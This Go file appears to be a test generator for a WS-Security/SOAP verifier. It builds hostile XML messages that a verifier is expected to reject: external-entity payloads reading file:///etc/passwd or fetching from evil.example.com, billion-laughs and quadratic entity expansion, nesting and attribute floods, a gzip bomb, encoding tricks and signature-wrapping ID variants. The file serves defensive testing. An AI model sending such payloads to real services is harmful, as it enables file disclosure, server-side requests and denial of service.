package attack

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"unicode/utf16"

	"wstrust/internal/soap"
	"wstrust/internal/wsse"
)

// evilMessage is one that the attacker signed rightly with a key that is
// trusted: what is wrong with the file is the only reason to refuse it.
func (w *world) evilMessage(v soap.Version) string {
	return string(w.message(recipe{soap: v, signer: "x509", parts: everything, scope: evilScope}))
}

// inHeader puts octets into a header block that nobody signed.
func inHeader(src, xml string) string {
	return strings.Replace(src, "</s:Header>", `<x:Wrapper xmlns:x="urn:x">`+xml+`</x:Wrapper></s:Header>`, 1)
}

// documents are P1 to P3 and P16: what may stand around a message.
func documents(w *world) (out []*attack) {
	laughs := `<!ENTITY a0 "ha">`
	for i := range 6 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 4))
	}
	big := strings.Repeat("x", 2000)
	for _, v := range versions {
		src := w.evilMessage(v)
		scoped := strings.ReplaceAll(src, evilScope, "&e;")
		for _, c := range []struct {
			row, name, file string
			off             defence
		}{
			{"P1", "bare", `<!DOCTYPE Envelope>` + src, dDoctype},
			{"P1", "subset", doctype(`<!ELEMENT x ANY>`) + src, dDoctype},
			{"P1", "system", `<!DOCTYPE Envelope SYSTEM "http://evil.example.com/x.dtd">` + src, dDoctype},
			{"P1", "public", `<!DOCTYPE Envelope PUBLIC "-//x" "x.dtd">` + src, dDoctype},
			{"P1", "after-declaration", `<?xml version="1.0"?><!DOCTYPE Envelope>` + src, dDoctype},
			{"P1", "after-comment", `<!-- x --><!DOCTYPE Envelope>` + src, dDoctype},
			{"P2", "file", doctype(`<!ENTITY e SYSTEM "file:///etc/passwd">`) + scoped, dDoctype},
			{"P2", "http", doctype(`<!ENTITY e SYSTEM "http://evil.example.com/e">`) + scoped, dDoctype},
			{"P2", "parameter", doctype(`<!ENTITY % e SYSTEM "http://evil.example.com/e"> %e;`) + scoped, dDoctype},
			{"P2", "attribute-default", doctype(`<!ATTLIST s:Header x CDATA "y">`) + src, dDoctype},
			{"P3", "laughs", doctype(laughs) + inHeader(src, "&a6;"), dDoctype},
			{"P3", "quadratic", doctype(`<!ENTITY b "`+big+`">`) + inHeader(src, strings.Repeat("&b;", 300)), dDoctype | dLimits},
			{"P3", "in-value", doctype(`<!ENTITY e "`+evilScope+`">`) + scoped, dDoctype},
			{"P16", "instruction-before", "<?xml-stylesheet href=\"x\"?>" + src, dPI},
			{"P16", "two-roots", src + "<x/>", dDocument},
			{"P16", "two-messages", src + src, dDocument},
			{"P16", "text-after", src + "garbage", dDocument},
			{"P16", "text-before", "garbage" + src, dDocument},
			{"P16", "end-tag-after", src + "</s:Envelope>", dDocument},
			{"P16", "cdata-after", src + "<![CDATA[x]]>", dDocument},
		} {
			a := w.octets(c.row, c.name, v, []byte(c.file), c.off, wsse.ClassFormat)
			a.fetch = map[string][]byte{"file:///etc/passwd": []byte(evilScope), "http://evil.example.com/e": []byte(evilScope)}
			a.fast = c.row != "P16"
			out = append(out, a)
		}
	}
	return out
}

// floods are P4, P5, P7 and P8.
func floods(w *world) (out []*attack) {
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	for _, v := range versions {
		src := w.evilMessage(v)
		for _, c := range []struct{ row, name, file string }{
			{"P4", "levels-100", inHeader(src, strings.Repeat("<a>", 100)+strings.Repeat("</a>", 100))},
			{"P4", "levels-20000", inHeader(src, strings.Repeat("<a>", 20000)+strings.Repeat("</a>", 20000))},
			{"P4", "levels-in-security", strings.Replace(src, "</wsse:Security>", strings.Repeat("<a>", 70)+strings.Repeat("</a>", 70)+"</wsse:Security>", 1)},
			{"P5", "attributes", inHeader(src, "<a "+many(200, func(i int) string { return fmt.Sprintf(`a%d="" `, i) })+"/>")},
			{"P5", "attributes-5000", inHeader(src, "<a "+many(5000, func(i int) string { return fmt.Sprintf(`a%d="" `, i) })+"/>")},
			{"P5", "elements", inHeader(src, strings.Repeat("<a/>", 10_001))},
			{"P5", "long-name", inHeader(src, "<"+strings.Repeat("n", 9000)+"/>")},
			{"P5", "long-attribute", inHeader(src, "<a "+strings.Repeat("n", 9000)+`=""/>`)},
			{"P5", "namespaces", inHeader(src, many(1100, func(i int) string { return fmt.Sprintf(`<p%d:a xmlns:p%d="urn:%d"/>`, i, i, i) }))},
			{"P5", "namespaces-on-one", inHeader(src, "<a "+many(150, func(i int) string { return fmt.Sprintf(`xmlns:p%d="urn:%d" `, i, i) })+"/>")},
			{"P5", "octets", inHeader(src, strings.Repeat(" ", 300<<10))},
			{"P5", "text", inHeader(src, strings.Repeat("x", 1<<20))},
			{"P5", "comment", inHeader(src, "<!--"+strings.Repeat("x", 300<<10)+"-->")},
			{"P5", "headers", strings.Replace(src, "</s:Header>", many(100, func(i int) string { return fmt.Sprintf(`<x:h%d xmlns:x="urn:x"/>`, i) })+"</s:Header>", 1)},
			{"P5", "identifiers", inHeader(src, many(20_000, func(i int) string { return fmt.Sprintf(`<a Id="i%d"/>`, i) }))},
		} {
			a := w.octets(c.row, c.name, v, []byte(c.file), dLimits, wsse.ClassLimit)
			a.fast = true
			out = append(out, a)
		}
		for name, t := range map[string]string{
			"thousand":    strings.Repeat(transform(excC14N), 1000),
			"twice":       transform(excC14N) + transform(excC14N),
			"xslt":        transform("http://www.w3.org/TR/1999/REC-xslt-19991116", `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`) + transform(excC14N),
			"base64":      transform("http://www.w3.org/2000/09/xmldsig#base64") + transform(excC14N),
			"decrypt":     transform("http://www.w3.org/2002/07/decrypt#XML") + transform(excC14N),
			"filter2":     transform("http://www.w3.org/2002/06/xmldsig-filter2") + transform(excC14N),
			"unknown":     transform("urn:t") + transform(excC14N),
			"six-envelop": strings.Repeat(transform(enveloped), 6) + transform(excC14N),
		} {
			a, _ := w.signedEvil("P7", name, v, "x509", w.client.signer, func(h *handmade) { h.refs[len(h.refs)-1].transforms = t })
			a.off, a.class, a.fast = dTransforms, classes(wsse.ClassAlgorithm), true
			out = append(out, a)
		}
		for _, n := range []int{31, 100, 500} {
			a, _ := w.signedEvil("P8", fmt.Sprintf("references-%d", n), v, "x509", w.client.signer, func(h *handmade) {
				for len(h.refs) < n {
					h.refs = append(h.refs, h.refs[len(h.refs)-1])
				}
			})
			a.off, a.class, a.fast = dReferences, classes(wsse.ClassLimit), true
			out = append(out, a)
		}
	}
	return out
}

// forms are P9, P10, P13 and P14: one thing written in several ways.
func forms(w *world) (out []*attack) {
	for _, v := range versions {
		src := w.evilMessage(v)
		var zipped bytes.Buffer
		z := gzip.NewWriter(&zipped)
		_, _ = z.Write([]byte(src))
		_ = z.Close()
		a := w.octets("P9", "gzip-octets", v, bytes.Clone(zipped.Bytes()), dCompressed, wsse.ClassFormat)
		a.contentType = v.ContentType("")
		out = append(out, a)
		zipped.Reset()
		z = gzip.NewWriter(&zipped)
		_, _ = z.Write([]byte(inHeader(src, strings.Repeat(" ", 200<<10))))
		_ = z.Close()
		a = w.octets("P9", "gzip-bomb", v, bytes.Clone(zipped.Bytes()), dCompressed, wsse.ClassFormat)
		a.contentType = v.ContentType("")
		out = append(out, a)

		wideText := func(big bool) []byte {
			var b []byte
			for _, u := range utf16.Encode([]rune(src)) {
				if big {
					b = append(b, byte(u>>8), byte(u))
				} else {
					b = append(b, byte(u), byte(u>>8))
				}
			}
			return b
		}
		for name, file := range map[string][]byte{
			"utf-7":             []byte(`<?xml version="1.0" encoding="UTF-7"?>` + strings.Replace(src, "<s:Body", "+ADw-s:Body", 1)),
			"utf-16-be-no-mark": wideText(true),
			"utf-16-le-no-mark": wideText(false),
			"declared-latin":    []byte(`<?xml version="1.0" encoding="ISO-8859-1"?>` + src),
			"declared-utf-16":   []byte(`<?xml version="1.0" encoding="UTF-16"?>` + src),
			"mark-against-it":   append([]byte{0xEF, 0xBB, 0xBF}, []byte(`<?xml version="1.0" encoding="UTF-16"?>`+src)...),
			"overlong":          []byte(inHeader(src, "\xC0\xBCa/>")),
			"stray-octet":       []byte(inHeader(src, "\xFF")),
			"surrogate":         []byte(inHeader(src, "\xED\xA0\x80")),
		} {
			a := w.octets("P10", name, v, file, dEncoding, wsse.ClassFormat)
			a.contentType = v.ContentType("")
			out = append(out, a)
		}
		for name, x := range map[string]string{"nul": "\x00", "nul-reference": "&#0;", "surrogate-reference": "&#xD800;"} {
			a := w.octets("P10", name, v, []byte(inHeader(src, x)), dNames, wsse.ClassFormat)
			out = append(out, a)
		}

		for name, attr := range map[string]string{
			"xml-id": `xml:id`, "plain-Id": `Id`, "plain-id": `id`, "plain-ID": `ID`, "assertion-id": `AssertionID`,
		} {
			f := open([]byte(src))
			f.attr(f.at("Header", "MessageID"), attr+`="`+id(f.at("Body"))+`"`)
			// MessageID is signed: sign again.
			f.resign(w.client.signer, func(h *handmade) { h.refs[len(h.refs)-1] = refTo(f.at("Body")) })
			a := w.octets("P13", name, v, f.src, dUniqueIDs, wsse.ClassWrapping)
			a.pick.lastID = true
			out = append(out, a)
		}

		for name, change := range map[string]func(s string) string{
			"foreign-character": func(s string) string { return s[:8] + "!" + s[8:] },
			"url-alphabet":      func(s string) string { return strings.NewReplacer("+", "-", "/", "_").Replace(s) },
			"no-padding":        func(s string) string { return strings.TrimRight(s, "=") },
			"padding-bits":      bumpPadding,
		} {
			for _, where := range []string{"SignatureValue", "DigestValue"} {
				out = append(out, w.octets("P14", name+"-"+strings.ToLower(where), v, w.respelled(v, where, change), dBase64, wsse.ClassFormat))
			}
		}
	}
	return out
}

// respelled is an evil message with one value of base64 in another spelling.
func (w *world) respelled(v soap.Version, where string, change func(string) string) []byte {
	for {
		f := open([]byte(w.evilMessage(v)))
		was := loose(f.last(where))
		if where == "SignatureValue" {
			f.text(f.last(where), change(was))
		} else {
			f.resign(w.client.signer, func(h *handmade) {
				last := &h.refs[len(h.refs)-1]
				was = b64(last.digest)
				last.digestXML = change(was)
			})
		}
		if change(was) != was { // not every value has what there are two spellings of
			return f.src
		}
	}
}

// bumpPadding changes the bits of the last character that no octet has.
func bumpPadding(s string) string {
	t := strings.TrimRight(s, "=")
	if len(t) == len(s) {
		return s
	}
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	last := strings.IndexByte(alphabet, t[len(t)-1])
	return t[:len(t)-1] + string(alphabet[last|1]) + s[len(t):]
}
